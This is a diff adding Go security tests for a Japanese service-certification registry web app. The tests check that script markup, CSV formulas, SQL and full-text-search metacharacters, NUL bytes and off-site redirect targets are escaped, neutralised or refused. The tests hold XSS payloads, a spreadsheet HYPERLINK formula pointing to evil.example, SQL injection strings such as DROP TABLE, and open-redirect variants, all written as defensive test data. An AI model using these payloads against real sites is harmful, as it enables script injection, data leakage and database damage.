@@ -1,0 +1,378 @@
+package web
+
+import (
+	"context"
+	"encoding/csv"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/PuerkitoBio/goquery"
+
+	"nintei"
+	"nintei/application"
+	"nintei/catalog"
+	"nintei/formb"
+	"nintei/internal/testenv"
+	"nintei/service"
+)
+
+// Hostile input (issue 8, item 6): what a provider types is published exactly as written
+// (R-7.2), so every public surface must show it as text, whatever it contains.
+
+// certifyWith certifies a ready application of a new provider after editForm has changed
+// its Form A and every entry of its Form B, and returns the certificate number.
+func certifyWith(t testing.TB, s *site, ownerEmail, org, staffEmail string,
+	editA func(*application.FormA), editB func(catalog.Item, *formb.Entry)) string {
+	t.Helper()
+	ctx := context.Background()
+	owner := service.Principal{User: s.Env.AddUser(t, ownerEmail, nintei.RoleOwner, org)}
+	jimu := service.Principal{User: s.Env.AddUser(t, staffEmail, nintei.RoleSecretariat, "")}
+	id, v := s.Env.ReadyApplication(t, owner)
+	a, err := s.Env.Store.Application(ctx, id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fa := testenv.CompleteFormA()
+	editA(&fa)
+	if v, err = s.Env.Svc.SaveFormA(ctx, owner, id, a.Version, fa); err != nil {
+		t.Fatalf("SaveFormA: %v", err)
+	}
+	ed, err := s.Env.Svc.ApplicationEdition(ctx, a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	form, err := s.Env.Svc.FormB(ctx, owner, a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var entries []formb.Entry
+	for _, it := range ed.Items {
+		e := form[it.ID]
+		e.ItemID = it.ID
+		editB(it, &e)
+		entries = append(entries, e)
+	}
+	if _, err = s.Env.Svc.SaveFormB(ctx, owner, id, v, entries); err != nil {
+		t.Fatalf("SaveFormB: %v", err)
+	}
+	steps := []func(v int64) error{
+		func(v int64) error { return s.Env.Svc.Submit(ctx, owner, id, v, "ja") },
+		func(v int64) error { return s.Env.Svc.StartFormalReview(ctx, jimu, id, v) },
+		func(v int64) error { _, err := s.Env.Svc.AcceptFormal(ctx, jimu, id, v); return err },
+		func(v int64) error { return s.Env.Svc.ConfirmPayment(ctx, jimu, id, v, "2026-11-27", 209000, "") },
+		func(v int64) error { return s.Env.Svc.Certify(ctx, jimu, id, v, "") },
+	}
+	for _, step := range steps {
+		a, _ := s.Env.Store.Application(ctx, id)
+		if err := step(a.Version); err != nil {
+			t.Fatal(err)
+		}
+	}
+	c, err := s.Env.Svc.Certification(ctx, owner, id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return c.Number
+}
+
+// editFreeText puts text(field) into every free-text part of Form A and Form B that the
+// registry publishes: the provider's and the service's names and overview; text and
+// long-text answers, the detail of a yes/no answer, every cell of a list and the hours of
+// every contact.
+func editFreeText(text func(field string) string) (func(*application.FormA), func(catalog.Item, *formb.Entry)) {
+	editA := func(fa *application.FormA) {
+		fa.Provider.Name = text("provider")
+		fa.Service.Name = text("service")
+		fa.Service.Overview = text("overview") + "\n" + text("overview2")
+	}
+	editB := func(it catalog.Item, e *formb.Entry) {
+		switch it.Answer.Type {
+		case catalog.TypeText, catalog.TypeLongText:
+			e.Answer.Value = text(it.ID)
+		case catalog.TypeYesNoDetail:
+			if e.Answer.Yes != nil && *e.Answer.Yes {
+				e.Answer.Detail = text(it.ID)
+			}
+		case catalog.TypeList:
+			for _, row := range e.Answer.Rows {
+				for k := range row {
+					row[k] = text(it.ID + "." + k)
+				}
+			}
+		case catalog.TypeContacts:
+			for k := range e.Answer.Contacts {
+				e.Answer.Contacts[k].Hours = text(fmt.Sprintf("%s.%d", it.ID, k))
+			}
+		}
+	}
+	return editA, editB
+}
+
+// xss is a payload that runs script if a page inserts it as markup; data-f names the field
+// it came from, so a failure says which one leaked.
+func xss(field string) string {
+	return `<script>alert("` + field + `")</script><img src=x onerror=alert(1) data-f="` + field + `">"'&`
+}
+
+// TestHostileTextIsEscapedOnPublicSurfaces_R7_2: script payloads in every published free
+// text (names, overview, every free-text answer, list cells, contact hours) are shown as
+// text on every public surface — registry list and search, service page, comparison,
+// verification, Atom feed, JSON, CSV — and never become markup.
+func TestHostileTextIsEscapedOnPublicSurfaces_R7_2(t *testing.T) {
+	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
+		s := newTestSite(t, b)
+		editA, editB := editFreeText(xss)
+		number := certifyWith(t, s, "evil@a.example.jp", "株式会社エビル", "jimu@body.example.jp", editA, editB)
+		esc := url.PathEscape(number)
+		c := s.client()
+		html := map[string]string{"list": "/registry", "search": "/registry?q=" + url.QueryEscape(`<script>alert("service")`),
+			"entry": "/registry/" + esc, "verify": "/verify/" + esc, "compare": compareURL([]string{number})}
+		for name, path := range html {
+			r := c.get(t, path)
+			if r.Status != http.StatusOK {
+				t.Errorf("%s %s = %d", name, path, r.Status)
+				continue
+			}
+			doc := r.doc(t)
+			if n := doc.Find("[data-f], [onerror]").Length(); n > 0 {
+				f, _ := doc.Find("[data-f], [onerror]").First().Attr("data-f")
+				t.Errorf("%s: %d injected elements, the first from %q", name, n, f)
+			}
+			doc.Find("script").Each(func(_ int, sc *goquery.Selection) {
+				if strings.Contains(sc.Text(), "alert") {
+					t.Errorf("%s: an injected script element", name)
+				}
+			})
+			if !strings.Contains(doc.Find("main").Text(), xss("service")) {
+				t.Errorf("%s does not show the service name as text", name)
+			}
+		}
+		entry := c.getPage(t, "/registry/"+esc, http.StatusOK).Find("main").Text()
+		for _, field := range []string{"provider", "overview", "overview2", "IPIOT-005"} {
+			if !strings.Contains(entry, xss(field)) {
+				t.Errorf("the service page does not show %s as text", field)
+			}
+		}
+
+		feed := c.get(t, "/registry/feed.atom")
+		var atom struct {
+			Entries []struct {
+				Title string `xml:"title"`
+			} `xml:"entry"`
+		}
+		if err := xml.Unmarshal([]byte(feed.Body), &atom); err != nil || len(atom.Entries) == 0 {
+			t.Fatalf("feed is not well-formed Atom: %v\n%.300s", err, feed.Body)
+		}
+		if !strings.Contains(atom.Entries[0].Title, xss("service")) || strings.Contains(feed.Body, "<script") {
+			t.Errorf("feed title %q: the name not as text", atom.Entries[0].Title)
+		}
+
+		for _, path := range []string{"/api/v1/registry", "/api/v1/registry/" + esc, "/verify/" + esc} {
+			r := c.get(t, path, "Accept", "application/json")
+			if !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") || strings.Contains(r.Body, "<script") ||
+				!strings.Contains(r.Body, `\u003cscript\u003ealert(\"service\")`) {
+				t.Errorf("%s: %s, markup not escaped in JSON:\n%.300s", path, r.Header.Get("Content-Type"), r.Body)
+			}
+		}
+		for _, path := range []string{"/registry.csv", "/compare.csv?n=" + url.QueryEscape(number)} {
+			r := c.get(t, path)
+			if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") || r.Header.Get("X-Content-Type-Options") != "nosniff" ||
+				!strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") {
+				t.Errorf("%s may be rendered by a browser: %v", path, r.Header)
+			}
+		}
+	})
+}
+
+// formulas are cell texts a spreadsheet would run as formulas.
+var formulas = []string{"=", "+", "-", "@", "\t", "\r"}
+
+// TestHostileCSVFormulasNeutralised: whatever names and answers start with — = + - @ tab
+// or carriage return — no cell of any CSV export (the registry list, the comparison)
+// starts with one of them: it gets a leading apostrophe and is text to a spreadsheet.
+func TestHostileCSVFormulasNeutralised(t *testing.T) {
+	s := newTestSite(t, sqliteOnly(t))
+	var numbers []string
+	for k, f := range formulas {
+		payload := func(field string) string { return f + `HYPERLINK("http://evil.example/?` + field + `","x")` }
+		editA, editB := editFreeText(payload)
+		numbers = append(numbers, certifyWith(t, s, fmt.Sprintf("f%d@a.example.jp", k), fmt.Sprintf("株式会社式%d", k),
+			fmt.Sprintf("jimu%d@body.example.jp", k), editA, editB))
+	}
+	c := s.client()
+	for _, path := range []string{"/registry.csv", "/registry.csv?q=" + url.QueryEscape("hyperlink"), strings.Replace(compareURL(numbers), "/compare?", "/compare.csv?", 1)} {
+		r := c.get(t, path)
+		if r.Status != http.StatusOK {
+			t.Fatalf("GET %s = %d", path, r.Status)
+		}
+		cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff")))
+		cr.FieldsPerRecord = -1
+		cells, rows := 0, 0
+		for {
+			rec, err := cr.Read()
+			if err == io.EOF {
+				break
+			}
+			if err != nil {
+				t.Fatalf("%s: %v", path, err)
+			}
+			rows++
+			for _, cell := range rec {
+				if strings.Contains(cell, "HYPERLINK") {
+					cells++
+				}
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s row %d: cell %q starts a formula", path, rows, cell)
+				}
+			}
+		}
+		if cells < len(formulas) {
+			t.Errorf("%s: %d cells with the payload, want at least %d (one per service)", path, cells, len(formulas))
+		}
+	}
+}
+
+// TestHostileSearchAndFilterMetacharacters: SQL, LIKE, FTS5 and tsquery syntax in the
+// search words and in every filter reaches the database only as data: 200, the right
+// number of services (a wildcard matches only itself), and the registry still whole.
+func TestHostileSearchAndFilterMetacharacters(t *testing.T) {
+	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
+		s := newTestSite(t, b)
+		certifiedService(t, s)
+		c := s.client()
+		total := func(query string) int {
+			t.Helper()
+			var got struct {
+				Total int `json:"total"`
+			}
+			r := c.get(t, "/api/v1/registry?"+query)
+			if r.Status != http.StatusOK {
+				t.Fatalf("GET /api/v1/registry?%s = %d %.300s", query, r.Status, r.Body)
+			}
+			r.json(t, &got)
+			for _, page := range []string{"/registry?" + query, "/registry.csv?" + query} {
+				if r := c.get(t, page); r.Status != http.StatusOK {
+					t.Errorf("GET %s = %d", page, r.Status)
+				}
+			}
+			return got.Total
+		}
+		words := []string{"'", `"`, `\`, "%", "_", "%%", "_%_", "*", "' OR '1'='1", `" OR ""="`, "1;DROP TABLE registry_entries;--",
+			"')OR(1=1)--", `\'`, "NEAR(み,な)", "み*", "^み", "みなと\"OR\"x", "-みなと", "{number}:IP", "a:*", "!a", "a&b", "a|b",
+			"a<->b", "())", "$1", "?", "ﾐﾅﾄ'--", strings.Repeat("'", 500), strings.Repeat("あ", 300)}
+		for _, w := range words {
+			if n := total("q=" + url.QueryEscape(w)); n != 0 {
+				t.Errorf("q=%q finds %d services, want 0", w, n)
+			}
+		}
+		for _, w := range []string{"みなと", "ＩｏＴ", "みなとiot", "iot 株式会社"} {
+			if n := total("q=" + url.QueryEscape(w)); n != 1 {
+				t.Errorf("q=%q finds %d services, want 1", w, n)
+			}
+		}
+		for _, param := range []string{"base", "status", "sort", "a.IPIOT-053", "page", "per_page"} {
+			for _, v := range []string{"' OR '1'='1", "%", "1; DROP TABLE registry_entries", "-1", "99999999999999999999", "9223372036854775807"} {
+				want := 0
+				if param == "sort" || param == "page" || param == "per_page" || param == "status" {
+					want = 1 // ignored: sort and status from fixed lists, page numbers within bounds
+				}
+				if n := total(param + "=" + url.QueryEscape(v)); n != want {
+					t.Errorf("%s=%q: %d services, want %d", param, v, n, want)
+				}
+			}
+		}
+		for _, id := range []string{"' OR 1=1 --", "%", "IPIOT-053' OR 'a'='a"} {
+			if n := total(url.QueryEscape("a."+id) + "=" + url.QueryEscape("国内")); n != 0 {
+				t.Errorf("filter on the unknown item %q: %d services, want 0", id, n)
+			}
+		}
+		if n := total(""); n != 1 {
+			t.Errorf("after the hostile queries the registry lists %d services, want 1", n)
+		}
+	})
+}
+
+// TestHostileNULIsRefused: a NUL character — which PostgreSQL cannot hold in text, so it
+// ended as a 500 there — in a query, a path, a form or a JSON body is a malformed request
+// (400 with the Japanese message), and nothing of the form is saved.
+func TestHostileNULIsRefused(t *testing.T) {
+	testenv.ForEachBackend(t, func(t *testing.T, b testenv.Backend) {
+		s := newTestSite(t, b)
+		number := certifiedService(t, s)
+		c := s.client()
+		for _, path := range []string{"/registry?q=%00", "/api/v1/registry?q=a%00b", "/registry?base=%00", "/api/v1/registry?a.IPIOT-053=%00",
+			"/registry.csv?q=%00", "/verify/" + url.PathEscape(number) + "%00", "/registry/%00", "/api/v1/registry/%00", "/compare?n=%00"} {
+			r := c.get(t, path)
+			if r.Status != http.StatusBadRequest {
+				t.Errorf("GET %s = %d, want 400", path, r.Status)
+			} else if ct := r.Header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") && alertText(r.doc(t)) != s.ja("error.form.malformed", nil) {
+				t.Errorf("GET %s: alert %q", path, alertText(r.doc(t)))
+			}
+		}
+
+		owner := s.Env.AddUser(t, "nul@example.jp", nintei.RoleOwner, orgA)
+		ctx := context.Background()
+		app, err := s.Env.Svc.OpenApplication(ctx, service.Principal{User: owner}, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		ui := s.client()
+		login(t, ui, "nul@example.jp", testenv.TestPassword)
+		before := s.auditCount(t)
+		doc := ui.getPage(t, fmt.Sprintf("/applications/%d/form-b", app.ID), http.StatusOK)
+		version, _ := doc.Find(`input[name=version]`).Attr("value")
+		section, _ := doc.Find(`input[name=section]`).Attr("value")
+		r := ui.postForm(t, fmt.Sprintf("/applications/%d/form-b", app.ID), url.Values{"csrf_token": {ui.csrf(t)}, "version": {version},
+			"section": {section}, "a.IPIOT-005.value": {"事業の概要\x00です"}, "a.IPIOT-001.value": {"2026-11-01"}})
+		if r.Status != http.StatusBadRequest || alertText(r.doc(t)) != s.ja("error.form.malformed", nil) {
+			t.Errorf("Form B with a NUL = %d %q, want 400 and the malformed-form message", r.Status, alertText(r.doc(t)))
+		}
+		api := s.bearerClient(s.apiToken(t, owner, "ci").Secret)
+		afterToken := s.auditCount(t)
+		r = api.api(t, http.MethodPut, fmt.Sprintf("/api/v1/applications/%d/form-a", app.ID), `{"version":1,"provider":{"name":"a\u0000b"}}`)
+		if r.Status != http.StatusBadRequest {
+			t.Errorf("JSON with \\u0000 = %d, want 400: %.200s", r.Status, r.Body)
+		}
+		if got := s.auditCount(t); got != afterToken || afterToken != before+1 {
+			t.Errorf("audit events %d → %d → %d: something was saved", before, afterToken, got)
+		}
+		a, _ := s.Env.Store.Application(ctx, app.ID)
+		if a.Version != app.Version {
+			t.Errorf("application version %d → %d: something was saved", app.Version, a.Version)
+		}
+	})
+}
+
+// TestHostileNextStaysOnSite: the page to return to after logging in or switching the
+// language is a path of this site only. Browsers drop tabs and newlines from a URL and
+// read "\" as "/", so "/\t/evil.example" (which passed the old check) would leave the
+// site; every such variant goes to the dashboard instead (found while answering gosec
+// G710).
+func TestHostileNextStaysOnSite(t *testing.T) {
+	s := newTestSite(t, sqliteOnly(t))
+	s.Env.AddUser(t, "owner@example.jp", nintei.RoleOwner, orgA)
+	evil := []string{"//evil.example/", "/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example", `/\evil.example`, `/\/evil.example`,
+		"/%09/evil.example", "https://evil.example/", "javascript:alert(1)", "/\x7f/evil.example", " /evil.example", "/a\\..\\..\\evil"}
+	for _, next := range evil {
+		r := s.client().postForm(t, "/lang", url.Values{"lang": {"ja"}, "next": {next}})
+		if loc := r.location(); r.Status != http.StatusSeeOther || (loc != "/dashboard" && !strings.HasPrefix(next, "/%09")) {
+			t.Errorf("POST /lang next=%q = %d to %q, want 303 to /dashboard", next, r.Status, loc)
+		}
+		c := s.client()
+		r = c.postForm(t, "/login", url.Values{"email": {"owner@example.jp"}, "password": {testenv.TestPassword}, "next": {next}})
+		if loc := r.location(); r.Status != http.StatusSeeOther || strings.ContainsAny(loc, "\t\n\r\\") || strings.HasPrefix(loc, "//") ||
+			strings.Contains(loc, ":") {
+			t.Errorf("login next=%q = %d to %q, want a path of this site", next, r.Status, loc)
+		}
+	}
+	for _, next := range []string{"/registry?q=" + url.QueryEscape("認証"), "/applications/1/form-b?section=x#f"} {
+		if r := s.client().postForm(t, "/lang", url.Values{"lang": {"ja"}, "next": {next}}); r.location() != next {
+			t.Errorf("POST /lang next=%q goes to %q, want there", next, r.location())
+		}
+	}
+}
